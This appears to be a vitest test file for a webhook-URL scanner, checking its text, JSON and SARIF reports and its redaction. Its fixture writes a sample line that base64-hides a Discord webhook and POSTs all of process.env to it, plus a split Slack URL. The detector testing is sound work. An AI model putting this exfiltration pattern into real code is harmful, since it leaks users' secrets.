// Text, JSON and SARIF show how a URL was found (encoding), what it is (kind) and why (evidence),
// and where the pieces of a split URL are; none of them carries a secret unless --no-redact.
// Files are generated at run time in a temp folder (fabricated secrets, never in the repository).
import { randomBytes } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Log } from 'sarif';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { run } from '../../src/cli/index.js';
import { validateSarifSchema } from '../support/sarif-validate.js';

const SCHEME = ['https', '://'].join('');
const B64URL = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-';
const UPPER = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789';
function rand(alphabet: string, n: number): string {
  for (;;) {
    const s = [...randomBytes(n)].map((b) => alphabet[b % alphabet.length]).join('');
    if (!/(.)\1{3}|xxxx|your|example|sample|dummy|insert|replace/i.test(s)) return s;
  }
}
const discordSecret = `1${rand('0123456789', 18)}/${rand(B64URL, 68)}`;
const discordUrl = `${SCHEME}discord.com/api/webhooks/${discordSecret}`;
const slackSecret = `T${rand(UPPER, 10)}/B${rand(UPPER, 10)}/${rand(B64URL.slice(0, 62), 24)}`;
const slackBase = `${SCHEME}hooks.slack.com/services/`;

let dir: string;
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'hookscan-evidence-'));
  mkdirSync(join(dir, 'pkg'));
  writeFileSync(join(dir, 'pkg', 'index.js'), `const u = atob("${Buffer.from(discordUrl).toString('base64')}");\nfetch(u, { method: "POST", body: JSON.stringify(process.env) });\n`);
  writeFileSync(join(dir, 'notify.py'), `BASE = "${slackBase}"\nPATH = "${slackSecret}"\n\nrequests.post(BASE + PATH, json={"text": "hi"})\n`);
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

async function cli(argv: string[]) {
  let stdout = '';
  let stderr = '';
  const code = await run(argv, { stdout: { write: (s: string) => (stdout += s) }, stderr: { write: (s: string) => (stderr += s) }, cwd: dir, env: {} });
  return { code, stdout, stderr };
}
const EVIDENCE = ['line 2 posts process.env to the Discord webhook on line 1', 'the URL is hidden as base64 (decoded with atob())'];

describe('reports of encoded, split and exfiltrating URLs', () => {
  it('text: kind, severity, encoding, evidence and the pieces of a split URL', async () => {
    const r = await cli(['scan', '.', '--format', 'text']);
    expect(r.code, r.stderr).toBe(1);
    expect(r.stdout).toContain('[exfil sink · critical · base64]');
    for (const e of EVIDENCE) expect(r.stdout).toContain(`evidence: ${e}`);
    expect(r.stdout).toContain('[credential · high · split]');
    expect(r.stdout).toMatch(/notify\.py:4:15 +\(2 pieces at 1:9, 2:9\)/);
    expect(r.stdout).not.toContain(discordSecret.split('/')[1]);
    expect(r.stdout).not.toContain(slackSecret.split('/')[2]);
  });

  it('JSON: kind, encoding, evidence, parts, and the decoded URL with --no-redact', async () => {
    const redacted = JSON.parse((await cli(['scan', '.', '--format', 'json'])).stdout);
    const d = redacted.findings.find((f: { ruleId: string }) => f.ruleId === 'discord-webhook');
    expect(d).toMatchObject({ kind: 'exfil-sink', severity: 'critical', encoding: 'base64', evidence: EVIDENCE });
    expect(d.url).toMatch(/^https:\/\/discord\.com\/api\/webhooks\//);
    expect(d.url).not.toContain(discordSecret.split('/')[1]);
    const s = redacted.findings.find((f: { ruleId: string }) => f.ruleId === 'slack-incoming-webhook');
    expect(s).toMatchObject({ kind: 'credential', encoding: 'split' });
    expect(s.evidence).toBeUndefined();
    expect(s.locations[0]).toMatchObject({ path: 'notify.py', line: 4, column: 15, endLine: 4, endColumn: 26, encoding: 'split' });
    expect(s.locations[0].parts).toEqual([
      { line: 1, column: 9, endLine: 1, endColumn: 9 + slackBase.length },
      { line: 2, column: 9, endLine: 2, endColumn: 9 + slackSecret.length },
    ]);
    const raw = JSON.parse((await cli(['scan', '.', '--format', 'json', '--no-redact'])).stdout);
    expect(raw.findings.map((f: { url: string }) => f.url).sort()).toEqual([discordUrl, `${slackBase}${slackSecret}`].sort());
  });

  it('SARIF: message and properties carry encoding, kind and evidence; pieces are related locations', async () => {
    const log = JSON.parse((await cli(['scan', '.', '--format', 'sarif'])).stdout) as Log;
    expect(validateSarifSchema(log)).toEqual([]);
    const results = log.runs[0].results ?? [];
    const d = results.find((r) => r.ruleId === 'discord-webhook')!;
    expect(d.message.text).toMatch(/^Exfiltration sink: Discord /);
    expect(d.message.text).toContain('Found base64-encoded.');
    expect(d.message.text).toContain(`Evidence: ${EVIDENCE.join('; ')}.`);
    expect(d.properties).toMatchObject({ kind: 'exfil-sink', encoding: 'base64', evidence: EVIDENCE });
    const s = results.find((r) => r.ruleId === 'slack-incoming-webhook')!;
    expect(s.message.text).toContain('Found assembled from pieces.');
    expect(s.relatedLocations?.map((l) => l.physicalLocation?.region)).toEqual([
      { startLine: 1, startColumn: 9, endLine: 1, endColumn: 9 + slackBase.length },
      { startLine: 2, startColumn: 9, endLine: 2, endColumn: 9 + slackSecret.length },
    ]);
    const text = JSON.stringify(log);
    expect(text).not.toContain(discordSecret.split('/')[1]);
    expect(text).not.toContain(slackSecret.split('/')[2]);
  });
});
